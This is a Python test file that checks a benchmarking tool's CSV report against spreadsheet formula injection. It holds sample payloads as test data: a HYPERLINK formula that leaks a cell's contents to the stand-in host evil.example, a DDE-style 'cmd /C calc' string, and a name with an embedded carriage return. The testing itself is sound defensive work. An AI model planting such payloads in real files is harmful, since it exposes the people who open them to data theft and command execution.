"""report.csv against formula injection (issue 22): a model, dataset or metric named like a formula is quoted text
when the file is opened in a spreadsheet; numbers and ordinary names are as they were."""

from __future__ import annotations

import csv
from pathlib import Path

from tests.support.workdirs import FRACTION, points, record, scoring, write_run
from vlmkit.report.cli import main

EVIL_MODEL = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
EVIL_DATASET = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_METRIC = "-2+3"
CR_MODEL = "net\r=cmd|' /C calc'!A0"  # a CR inside a name: what follows must not begin a row


def _rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_report_csv_quotes_formula_like_names_and_keeps_numbers(tmp_path: Path) -> None:
    work, out = tmp_path / "outputs", tmp_path / "tables"
    recs = [record(0, "A", "A", hit=True), record(1, "B", "A", hit=False)]
    write_run(work, EVIL_MODEL, EVIL_DATASET, block=scoring("mcq", 0.5, metric=EVIL_METRIC, scale=FRACTION),
              records=recs)
    write_run(work, CR_MODEL, "\tTabBench", block=scoring("vqa", -1.25, scale=points(10)), records=recs)
    write_run(work, "plain-model", "YNBench", block=scoring("yorn", 0.75, scale=FRACTION), records=recs)
    assert main(["report", str(work), "--out", str(out)]) == 0

    rows = {row["dataset"]: row for row in _rows(out / "report.csv")}
    assert len(rows) == 3  # no row was split by the CR
    evil = rows["'" + EVIL_DATASET]
    assert evil["model"] == "'" + EVIL_MODEL and evil["metric"] == "'" + EVIL_METRIC
    assert float(evil["value"]) == 0.5 and evil["n"] == "2"
    assert evil["results"] == str(work / EVIL_MODEL / EVIL_DATASET / "results.json")  # a path starts with /
    tab = rows["'\tTabBench"]
    assert tab["model"] == CR_MODEL  # whole, in one quoted cell (rows end with CRLF in such a file)
    assert b'"net\r=cmd' in (out / "report.csv").read_bytes()
    assert tab["value"] == "-1.25" and float(tab["value"]) == -1.25  # a negative number stays a number
    plain = rows["YNBench"]
    assert (plain["model"], plain["metric"], plain["value"], plain["status"]) == ("plain-model", "Overall", "0.75",
                                                                                   "success")
    for row in rows.values():  # nothing in the file begins like a formula, but the plain numbers
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
            assert not cell.startswith("-") or cell == "-1.25", (name, cell)


def test_an_ordinary_report_csv_ends_its_lines_as_before(tmp_path: Path) -> None:
    work, out = tmp_path / "outputs", tmp_path / "tables"
    write_run(work, "plain-model", "YNBench", block=scoring("yorn", 0.75, scale=FRACTION),
              records=[record(0, "Yes", "Yes", hit=True)])
    assert main(["report", str(work), "--out", str(out)]) == 0
    data = (out / "report.csv").read_bytes()
    assert b"\r" not in data and data.count(b"\n") == 2
